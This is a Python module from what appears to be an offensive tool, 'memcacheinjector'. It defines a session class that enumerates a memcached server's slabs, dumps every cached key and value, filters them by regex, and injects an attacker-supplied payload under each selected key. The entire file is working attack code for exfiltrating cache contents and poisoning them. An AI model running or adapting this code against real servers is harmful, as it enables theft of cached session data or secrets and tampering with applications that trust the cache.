# -*- test-case-name: memcacheinjector.test.test_session -*-
# Copyright (c) Twisted Matrix Laboratories.
# See LICENSE for details.

"""
Sequencing of the stats and dump workflows over one connection.

An L{InjectorSession} owns the tables built while inspecting a server and
moves through L{SessionState} as its operations complete::

    session = InjectorSession(proto)
    yield session.discoverSlabs()
    yield session.dumpAllKeys()
    yield session.fetchAllValues()
    session.emit(sink, withValues=True)

Commands are sent one after the other, each waiting for the previous answer.
A L{ProtocolError} for one slab or one key is logged and the scan goes on; a
L{TransportError} is not caught and ends the run.
"""

from __future__ import annotations

from typing import Dict, List, Optional

from constantly import NamedConstant, Names

from twisted.internet.defer import inlineCallbacks
from twisted.logger import Logger

from memcacheinjector.cachedump import DEFAULT_PAGE_SIZE, listKeysInSlab
from memcacheinjector.error import ProtocolError
from memcacheinjector.payload import PassThroughCodec
from memcacheinjector.stats import mergeTypedStats, parseGeneralStats, parseTypedStats
from memcacheinjector.values import fetchValue

log = Logger()


class SessionState(Names):
    """
    Progress of an L{InjectorSession}, in the order the states are reached.
    """

    IDLE = NamedConstant()
    STATS_COLLECTED = NamedConstant()
    SLABS_DISCOVERED = NamedConstant()
    KEYS_DUMPED = NamedConstant()
    VALUES_FETCHED = NamedConstant()
    REPORTED = NamedConstant()


_stateOrder = list(SessionState.iterconstants())


class InjectorSession:
    """
    Inspect and dump the contents of one memcached server.

    @ivar protocol: The connection to the server.
    @type protocol: L{memcacheinjector.protocol.MemCacheDumpProtocol}

    @ivar pageSize: The maximum number of keys asked per slab.

    @ivar codec: The L{IPayloadCodec} the application stores values with.

    @ivar keyPattern: If not L{None}, a compiled L{bytes} regular expression
        which discovered keys must match to be kept.

    @ivar valuePattern: If not L{None}, a compiled L{bytes} regular
        expression which decoded values must match to be emitted or injected
        into.

    @ivar state: The last L{SessionState} reached.

    @ivar stats: General stats from the last L{collectStats}.
    @type stats: L{dict} of L{str} to L{str}

    @ivar connections: Per-connection stats from the last L{collectStats}.
    @type connections: L{dict} of L{int} to L{dict}

    @ivar slabs: Per-slab stats accumulated by L{discoverSlabs}.
    @type slabs: L{dict} of L{int} to L{dict}

    @ivar keys: Discovered keys, in discovery order, mapped to their value or
        L{None} if not fetched or missing.
    @type keys: L{dict} of L{bytes} to L{bytes} or L{None}

    @ivar failedSlabs: Slab ids whose dump failed.

    @ivar failedKeys: Keys whose fetch failed.
    """

    def __init__(
        self,
        protocol,
        pageSize: int = DEFAULT_PAGE_SIZE,
        codec=None,
        keyPattern=None,
        valuePattern=None,
    ) -> None:
        self.protocol = protocol
        self.pageSize = pageSize
        self.codec = codec if codec is not None else PassThroughCodec()
        self.keyPattern = keyPattern
        self.valuePattern = valuePattern
        self.state = SessionState.IDLE
        self.stats: Dict[str, str] = {}
        self.connections: Dict[int, Dict[str, str]] = {}
        self.slabs: Dict[int, Dict[str, str]] = {}
        self.keys: Dict[bytes, Optional[bytes]] = {}
        self.failedSlabs: List[int] = []
        self.failedKeys: List[bytes] = []

    def _advance(self, state):
        if _stateOrder.index(state) > _stateOrder.index(self.state):
            self.state = state

    @inlineCallbacks
    def collectStats(self):
        """
        Gather general and per-connection stats, for reporting only.

        @return: A L{Deferred} firing with C{(stats, connections)}.
        """
        general = yield self.protocol.sendLabeledList(b"stats", b"STAT")
        conns = yield self.protocol.sendLabeledList(b"stats conns", b"STAT")
        self.stats = parseGeneralStats(general)
        self.connections = parseTypedStats(conns)
        self._advance(SessionState.STATS_COLLECTED)
        return (self.stats, self.connections)

    @inlineCallbacks
    def discoverSlabs(self):
        """
        Scan the slab classes of the server and merge them into L{slabs}.
        Calling it again refreshes the known fields.

        @return: A L{Deferred} firing with the slabs of this scan only.
        """
        lines = yield self.protocol.sendLabeledList(b"stats slabs", b"STAT")
        scan = parseTypedStats(lines)
        mergeTypedStats(self.slabs, scan)
        log.info("Found {count} slab(s).", count=len(scan))
        self._advance(SessionState.SLABS_DISCOVERED)
        return scan

    @inlineCallbacks
    def dumpAllKeys(self):
        """
        List the keys of every known slab into L{keys}, without values.

        @return: A L{Deferred} firing with the number of keys added.
        """
        added = 0
        for slabId in sorted(self.slabs):
            log.info("Starting dump of keys in slab #{slab}...", slab=slabId)
            try:
                keys = yield listKeysInSlab(self.protocol, slabId, self.pageSize)
            except ProtocolError as e:
                log.warn(
                    "Dump of slab #{slab} failed: {error}", slab=slabId, error=e
                )
                self.failedSlabs.append(slabId)
                continue
            for key in keys:
                if self.keyPattern is not None and not self.keyPattern.search(key):
                    continue
                if key not in self.keys:
                    self.keys[key] = None
                    added += 1
            log.info("Got {count} key(s) from slab #{slab}.", count=len(keys), slab=slabId)
        self._advance(SessionState.KEYS_DUMPED)
        return added

    @inlineCallbacks
    def fetchAllValues(self):
        """
        Fetch the value of every key in L{keys}.  Keys which disappeared since
        they were listed keep a L{None} value.

        @return: A L{Deferred} firing with the number of values found.
        """
        hits = 0
        for key in list(self.keys):
            log.debug("Getting value for key {key!r}...", key=key)
            try:
                value = yield fetchValue(self.protocol, key)
            except ProtocolError as e:
                log.warn("Fetch of key {key!r} failed: {error}", key=key, error=e)
                self.failedKeys.append(key)
                continue
            self.keys[key] = value
            if value is None:
                log.info("Key {key!r} is gone.", key=key)
            else:
                hits += 1
                log.info("Got {size} byte(s) for key {key!r}.", size=len(value), key=key)
        self._advance(SessionState.VALUES_FETCHED)
        return hits

    def _decode(self, key, value):
        try:
            return self.codec.decode(value)
        except ValueError as e:
            log.warn("Cannot decode value of key {key!r}: {error}", key=key, error=e)
            return value

    def _selected(self):
        """
        Iterate over C{(key, decoded value)} for the entries matching
        L{valuePattern}.
        """
        for key, value in self.keys.items():
            if value is not None:
                value = self._decode(key, value)
            if self.valuePattern is not None:
                if value is None or not self.valuePattern.search(value):
                    continue
            yield key, value

    def emit(self, sink, withValues=False):
        """
        Write one line per entry of L{keys} to C{sink}, in discovery order.

        @param sink: A binary file-like object.

        @param withValues: If true, follow each key with a space and its
            decoded value, when it has one.

        @return: The number of entries written.
        """
        written = 0
        for key, value in self._selected():
            entry = key
            if withValues and value is not None:
                entry += b" " + value
            sink.write(entry + b"\n")
            written += 1
        self._advance(SessionState.REPORTED)
        return written

    @inlineCallbacks
    def inject(self, injector, payload):
        """
        Plant C{payload}, encoded with L{codec}, under every selected key.

        @param injector: An L{IPayloadInjector} provider, or L{None}.

        @type payload: L{bytes}

        @return: A L{Deferred} firing with the list of keys the payload was
            stored under.  It fails with L{NotImplementedError} if
            C{injector} is L{None}.
        """
        if injector is None:
            raise NotImplementedError("No payload injector is available")
        encoded = self.codec.encode(payload)
        injected = []
        for key, value in list(self._selected()):
            try:
                stored = yield injector.inject(self.protocol, key, encoded)
            except ProtocolError as e:
                log.warn("Injection into key {key!r} failed: {error}", key=key, error=e)
                self.failedKeys.append(key)
                continue
            if stored:
                injected.append(key)
        return injected


__all__ = ["SessionState", "InjectorSession"]
